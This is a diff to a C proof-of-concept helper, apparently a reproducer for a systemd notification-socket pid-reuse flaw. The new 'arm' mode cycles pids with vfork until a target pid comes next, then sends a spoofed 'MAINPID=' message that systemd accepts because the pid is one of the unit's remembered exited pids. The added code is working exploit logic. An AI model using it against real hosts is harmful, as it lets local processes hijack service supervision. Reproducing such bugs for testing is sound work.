@@ -8,6 +8,13 @@
  * knows the sender's pid, among them pids of processes that already exited (recent_pids,
  * main_pid), before it looks at the sender's cgroup: so the message counts as the victim's.
  *
+ * With a third argument "arm" it works the other way round: it forks until the next pid
+ * the kernel will hand out is the one in argv[1], creates argv[1].armed, waits for
+ * argv[1].go, and then sends argv[2] from the main process itself (its own unit's), e.g.
+ * "MAINPID=@TARGET@" (@TARGET@: that pid) of a process that was started meanwhile outside the unit and got that
+ * pid: the pid is one of the unit's remembered exited pids (its ExecStartPre=), which
+ * unit_owns_pid() accepts.
+ *
  * Built by hand: cc -O2 -o notify-pid-reuse notify-pid-reuse.c
  */
 #define _GNU_SOURCE
@@ -43,7 +50,7 @@ int main(int argc, char **argv) {
         unsigned long tries = 0;
         char msg[1024], self[32];
 
-        if (argc != 3)
+        if (argc != 3 && !(argc == 4 && strcmp(argv[3], "arm") == 0))
                 return 2;
         setvbuf(stdout, NULL, _IONBF, 0);
         while (target <= 0) {
@@ -57,6 +64,36 @@ int main(int argc, char **argv) {
                         usleep(20000);
         }
         printf("target pid %d, NOTIFY_SOCKET %s\n", (int) target, getenv("NOTIFY_SOCKET") ?: "(none)");
+        if (argc == 4) {
+                char path[4096];
+                for (;;) {
+                        pid_t pid = vfork(); /* faster than fork: nothing to copy */
+                        if (pid == 0)
+                                _exit(0);
+                        if (pid < 0)
+                                continue;
+                        (void) waitpid(pid, NULL, 0);
+                        tries++;
+                        if (pid == target - 1)
+                                break;
+                }
+                snprintf(path, sizeof path, "%s.armed", argv[1]);
+                fclose(fopen(path, "we"));
+                printf("armed after %lu forks: the next pid is %d\n", tries, (int) target);
+                snprintf(path, sizeof path, "%s.go", argv[1]);
+                while (access(path, F_OK) < 0)
+                        usleep(20000);
+                const char *at = strstr(argv[2], "@TARGET@");
+                if (at)
+                        snprintf(msg, sizeof msg, "%.*s%d%s", (int) (at - argv[2]), argv[2], (int) target, at + 8);
+                else
+                        snprintf(msg, sizeof msg, "%s", argv[2]);
+                for (char *p = msg; (p = strchr(p, '|')); )
+                        *p = '\n';
+                printf("sending \"%s\": %s\n", msg, send_notify(msg) == 0 ? "sent" : strerror(errno));
+                pause();
+                return 0;
+        }
         for (;;) {
                 pid_t pid = fork();
                 if (pid < 0) {
